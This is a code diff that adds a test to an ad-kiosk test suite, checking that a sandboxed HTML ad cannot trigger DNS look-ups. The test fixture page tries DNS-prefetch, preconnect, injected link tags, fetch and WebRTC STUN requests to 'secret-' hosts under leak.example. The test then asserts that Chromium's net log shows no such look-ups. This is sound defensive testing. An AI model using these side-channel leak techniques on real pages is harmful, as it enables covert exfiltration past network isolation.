@@ -1,4 +1,4 @@
-import { mkdirSync, writeFileSync } from 'node:fs';
+import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import type { Play } from '../shared/play';
 import { captureDisplay } from './capture/capture-display';
@@ -143,6 +143,41 @@ test('a page that tries everything reaches nothing, moves nothing, and is over a
   await expectMorePlays(kiosk, 4);
   expect((await playsOf(kiosk, 'green')).map(({ outcome }) => outcome)).not.toContain('failed');
   expect(service.requests().filter(({ path }) => path.includes('escaped'))).toEqual([]);
+});
+
+test('a page, which has no network, has no name looked up either', async ({ service, start, folder }) => {
+  service.setMedia('red.png', solidImage(RED), 'image/png');
+  const hints = `<link rel="dns-prefetch" href="//hint.leak.example"><link rel="preconnect" href="http://connect.leak.example">
+  <a href="http://anchor.leak.example/">.</a><script>
+    let told = 0;
+    setInterval(() => {
+      told += 1;
+      for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'icon', 'stylesheet']) {
+        const link = document.createElement('link');
+        link.rel = rel;
+        link.href = 'http://secret-' + told + '-' + rel + '.leak.example/x';
+        document.head.append(link);
+      }
+      try { fetch('http://fetch-' + told + '.leak.example/').catch(() => {}); } catch {}
+      try { new RTCPeerConnection({ iceServers: [{ urls: 'stun:stun-' + told + '.leak.example' }] }).createDataChannel('x'); } catch {}
+    }, 50);
+  </script>`;
+  service.setMedia('green.html', Buffer.from(pageOf(GREEN, hints)), 'text/html');
+  service.setAds([imageAd('red'), pageAd('green')]);
+  const netLog = join(folder, 'net-log.json');
+  const kiosk = await start(undefined, { args: [`--log-net-log=${netLog}`] });
+  await expectOnScreen(kiosk, GREEN, RED);
+  await expectOnScreen(kiosk, GREEN, RED);
+  await kiosk.terminate();
+  const log = readFileSync(netLog, 'utf8');
+  // What the log calls a look-up of a name by Chromium itself.
+  const events = Number(/"HOST_RESOLVER_MANAGER_REQUEST":(\d+)/.exec(log)?.[1]);
+  expect(events).toBeGreaterThan(0);
+  const lookedUp = log
+    .split('\n')
+    .filter((line) => line.includes(`"type":${events}`) || line.includes('HOST_RESOLVER_MANAGER_JOB'))
+    .flatMap((line) => /"host":"([^"]*)"/.exec(line)?.[1] ?? []);
+  expect(lookedUp.filter((host) => host.includes('leak.example'))).toEqual([]);
 });
 
 test('a page that loads itself again and again shows as any other', async ({ service, start }) => {
